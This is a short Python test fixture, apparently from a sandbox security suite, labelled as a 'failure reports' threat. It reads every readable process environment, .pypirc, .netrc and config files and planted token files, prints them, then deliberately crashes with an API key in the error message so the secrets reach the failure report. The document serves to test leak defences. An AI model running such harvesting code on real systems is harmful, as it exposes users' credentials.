# threat: failure reports (issue 26): prints every environment it can read (its own, its
# sandbox's init, the processes it can see) and any planted token file in the usual homes, then
# fails on purpose so that all of it lands in the failure report
# task: smoke/5
# expect: compile_error/load
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/*/environ"):
    try:
        with open(path, "rb") as handle:
            print(path, handle.read())
    except OSError:
        pass
for pattern in (
    "/root/pikeh-planted-*",
    "/home/*/pikeh-planted-*",
    "/root/.pypirc",
    "/home/*/.pypirc",
    "/root/.netrc",
    "/home/*/.netrc",
    "/root/.config/*/*",
    "/home/*/.config/*/*",
):
    for path in glob.glob(pattern):
        try:
            with open(path) as handle:
                print(path, handle.read())
        except OSError:
            pass
raise RuntimeError("failing on purpose: " + os.environ.get("PIKEH_TEST_API_KEY", "no key in sight"))
